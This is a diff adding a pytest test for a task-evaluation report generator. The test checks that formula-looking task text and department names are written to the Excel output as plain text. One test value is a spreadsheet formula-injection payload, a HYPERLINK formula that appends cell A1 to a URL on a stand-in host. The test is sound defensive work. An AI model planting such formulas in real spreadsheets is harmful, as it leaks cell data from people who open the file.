@@ -33,3 +33,25 @@ def test_traffic_light_conditional_formatting(final_reports: tuple) -> None:
     assert green.formula == ["80"] and green.dxf.fill.fgColor.rgb.endswith("C8E6C9")
     verdict_rules = [r for cf in book["任务明细"].conditional_formatting for r in cf.rules]
     assert {r.formula[0] for r in verdict_rules} >= {'"已完成"', '"基本完成"', '"滞后"'}
+
+
+def test_formula_looking_task_text_and_unit_names_are_written_as_text(session, tmp_path) -> None:
+    from sqlmodel import select
+
+    from models import Department, Task
+    from tasks.evaluation.assessment import run_evaluation
+    from tasks.evaluation.scoring import load_scoring
+    from tests.evaluation_plan import build_small_plan
+
+    build_small_plan(session)
+    task_text, unit_name = '=HYPERLINK("http://example.invalid/?"&A1,"点击")', "=1+1市公安局"
+    task = session.exec(select(Task).where(Task.code == "1")).one()
+    unit = session.exec(select(Department).where(Department.name == "市公安局")).one()
+    task.text, unit.name = task_text, unit_name
+    session.add_all([task, unit])
+    session.commit()
+    _, paths = run_evaluation(session, "small", "final", None, load_scoring(), None, tmp_path / "out")
+    book = load_workbook(next(p for p in paths if p.suffix == ".xlsx"))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert {c.value for c in cells if c.data_type == "s"} >= {task_text, unit_name}
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
